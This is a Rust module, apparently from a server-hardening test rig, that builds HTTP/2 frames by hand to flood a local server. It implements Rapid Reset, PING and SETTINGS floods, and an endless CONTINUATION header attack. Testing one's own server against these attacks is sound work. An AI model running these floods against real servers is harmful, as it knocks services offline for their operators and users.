//! As much of HTTP/2 as an attacker needs: frames written by hand, nothing read but to throw it away.
//!
//! In:    a connection
//! Out:   frames
//! Calls: floods
//! Holds: every write and read is bounded by the connection's patience
//! Upstream: none; RFC 9113, RFC 7541

use std::io::{ErrorKind, Read as _, Write as _};
use std::time::Duration;

use rig::http::{Secure, Wire};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const INITIAL_WINDOW_SIZE: u16 = 4;

/// One connection.
#[derive(Debug)]
pub(crate) struct Frames {
    wire: Wire,
    authorization: String,
    secure: bool,
    next: u32,
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// A string of HPACK, not compressed.
fn string(text: &str, to: &mut Vec<u8>) {
    let length = text.len();
    match u8::try_from(length) {
        Ok(short) if short < 127 => to.push(short),
        _ => {
            to.push(127);
            let mut rest = length - 127;
            while rest >= 128 {
                to.push((rest % 128) as u8 | 128);
                rest /= 128;
            }
            to.push(rest as u8);
        }
    }
    to.extend(text.as_bytes());
}

impl Frames {
    /// Opens a connection and says how much may be sent on each stream.
    pub(crate) fn open(port: u16, secure: Option<&Secure>, window: u32) -> anyhow::Result<Self> {
        let wire = Wire::open(port, secure, Duration::from_millis(500))?;
        let mut frames = Self {
            wire,
            authorization: secure.map(Secure::authorization).unwrap_or_default(),
            secure: secure.is_some(),
            next: 1,
        };
        let mut payload = INITIAL_WINDOW_SIZE.to_be_bytes().to_vec();
        payload.extend(window.to_be_bytes());
        let mut bytes = PREFACE.to_vec();
        bytes.extend(frame(SETTINGS, 0, 0, &payload));
        frames.send(&bytes)?;
        Ok(frames)
    }

    fn send(&mut self, bytes: &[u8]) -> anyhow::Result<()> {
        self.wire.write_all(bytes)?;
        Ok(self.wire.flush()?)
    }

    fn head(&self, path: &str) -> Vec<u8> {
        // GET; http or https.
        let mut block = vec![0x82, if self.secure { 0x87 } else { 0x86 }];
        block.push(0x04);
        string(path, &mut block);
        block.push(0x01);
        string("localhost", &mut block);
        let token = self.authorization.trim().split_once(": ");
        if let Some((_, token)) = token {
            block.extend([0x0f, 0x08]);
            string(token, &mut block);
        }
        block
    }

    /// Asks, on a stream of its own; the stream.
    pub(crate) fn get(&mut self, path: &str) -> anyhow::Result<u32> {
        let stream = self.next;
        self.next += 2;
        let head = self.head(path);
        self.send(&frame(HEADERS, END_STREAM | END_HEADERS, stream, &head))?;
        Ok(stream)
    }

    /// Asks many times and takes each back at once.
    pub(crate) fn rapid_reset(&mut self, path: &str, times: u32) -> anyhow::Result<()> {
        let mut bytes = Vec::new();
        let head = self.head(path);
        for _ in 0..times {
            let stream = self.next;
            self.next += 2;
            bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &head));
            bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
        }
        self.send(&bytes)
    }

    pub(crate) fn pings(&mut self, times: usize) -> anyhow::Result<()> {
        let ping = frame(PING, 0, 0, &[7; 8]);
        self.send(&ping.repeat(times))
    }

    pub(crate) fn settings(&mut self, times: usize) -> anyhow::Result<()> {
        let payload: Vec<u8> = [
            &INITIAL_WINDOW_SIZE.to_be_bytes()[..],
            &65_535_u32.to_be_bytes(),
        ]
        .concat();
        self.send(&frame(SETTINGS, 0, 0, &payload).repeat(times))
    }

    /// A head that does not end: `times` pieces of 16 KB.
    pub(crate) fn endless_head(&mut self, times: usize) -> anyhow::Result<()> {
        let stream = self.next;
        self.next += 2;
        let head = self.head("/");
        self.send(&frame(HEADERS, END_STREAM, stream, &head))?;
        let mut field = vec![0x00];
        string("x-attack", &mut field);
        string(&"a".repeat(16_000), &mut field);
        let piece = frame(CONTINUATION, 0, stream, &field);
        for _ in 0..times {
            self.send(&piece)?;
        }
        Ok(())
    }

    /// Throws away what has come; whether the other side still is there.
    pub(crate) fn drain(&mut self) -> bool {
        let short = Duration::from_millis(1);
        let _set = self.wire.socket().set_read_timeout(Some(short));
        let mut buffer = [0; 65_536];
        for _ in 0..64 {
            match self.wire.read(&mut buffer) {
                Ok(0) => return false,
                Ok(_) => {}
                Err(error) => {
                    return matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut);
                }
            }
        }
        true
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_and_strings_have_their_lengths() {
        assert_eq!(
            frame(PING, 0, 0, &[1, 2]),
            [0, 0, 2, 6, 0, 0, 0, 0, 0, 1, 2]
        );
        let mut long = Vec::new();
        string(&"a".repeat(16_000), &mut long);
        // 16,000 - 127 = 15,873 = 1 + 128 * 124
        assert_eq!(long[..3], [127, 1 | 128, 124]);
        let mut short = Vec::new();
        string("ab", &mut short);
        assert_eq!(short, [2, b'a', b'b']);
    }
}
